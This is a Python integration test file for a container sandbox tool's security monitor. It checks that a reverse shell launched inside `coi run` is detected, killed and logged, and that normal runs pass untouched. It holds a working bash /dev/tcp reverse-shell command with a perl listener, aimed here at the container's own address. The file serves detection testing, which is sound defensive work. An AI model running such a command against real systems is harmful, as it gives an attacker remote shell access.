"""`coi run` under the monitor, and the fork server the supervisors come from.

`coi run` has no supervisor: a watch thread beside the exec does the monitor's work.
No packet leaves the machine: the reverse shell connects to a listener inside the same
container, on the container's own address.
"""

from __future__ import annotations

import json
import os
import signal
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from coi.incus.client import Client
from coi.monitor.audit import audit_dir, read
from tests.integration.session_support import Sandbox, sandbox, wait_until

pytestmark = pytest.mark.slow

REVERSE_SHELL = (
    'IP=$(hostname -I | cut -d" " -f1); '
    'perl -MIO::Socket::INET -e "\\$s=IO::Socket::INET->new(LocalAddr=>\\"$IP\\",'
    'LocalPort=>4444,Listen=>1,ReuseAddr=>1) or die; \\$c=\\$s->accept; sleep 60" & '
    'sleep 0.5; bash -c "bash -i >& /dev/tcp/$IP/4444 0>&1"; echo still-here')


@pytest.fixture
def box(incus: Client, test_image: str, tmp_path: Path) -> Iterator[Sandbox]:
    with sandbox(incus, test_image, tmp_path, owner=1000) as made:
        made.write_config("[monitoring]\npoll_interval_sec = 0.2\n")
        yield made


def audit_events(box: Sandbox) -> list[dict[str, object]]:
    return [e for path in sorted(audit_dir(box.coi_home).glob("*.jsonl"))
            for e in read(path)]


def test_a_reverse_shell_in_coi_run_is_killed(box: Sandbox) -> None:
    started = time.monotonic()
    done = box.coi("run", "--", "sh", "-c", REVERSE_SHELL, timeout=120)
    assert done.returncode == 137, done
    assert b"still-here" not in done.stdout
    assert b"SECURITY ALERT [CRITICAL] Reverse shell detected" in done.stderr
    assert time.monotonic() - started < 60
    events = audit_events(box)
    assert [(e["severity"], e["detector"], e["action"]) for e in events] == [
        ("critical", "reverse_shell", "killed")]
    assert box.ours() == [], "the run's container is gone"


def test_a_plain_coi_run_is_unaffected(box: Sandbox) -> None:
    done = box.coi("run", "--", "sh", "-c", "cat /etc/hostname >/dev/null; echo ok",
                   timeout=120)
    assert (done.returncode, done.stdout) == (0, b"ok\n"), done
    assert audit_events(box) == []


def test_supervisors_come_from_one_fork_server_that_leaves_with_its_socket(
        box: Sandbox) -> None:
    first = box.coi("shell", "--tool", "dummy", "--background", timeout=120)
    assert first.returncode == 0, first
    run_dir = box.coi_home / "run"
    [sock] = run_dir.glob("forkserver-*.sock")
    state = json.loads((run_dir / f"{box.name()}.json").read_text())
    supervisor = int(state["pid"])
    forked = {int(p) for p in os.listdir("/proc") if p.isdigit() and str(sock).encode()
              in Path(f"/proc/{p}/cmdline").read_bytes()}
    assert supervisor in forked, "the supervisor was forked from the server (its argv)"
    servers = sorted(forked - {supervisor})
    assert len(servers) == 1, "one server for the sandbox"
    box.coi("shutdown", box.name(), timeout=120)
    box.wait_closed(box.name())
    sock.unlink()  # as when its ~/.coi goes away: the server notices and leaves
    server = servers[0]
    wait_until(lambda: not Path(f"/proc/{server}").exists()
               or Path(f"/proc/{server}/stat").read_text().split()[2] == "Z", 15,
               "the fork server did not leave")
    if Path(f"/proc/{server}").exists():
        os.kill(server, signal.SIGKILL)
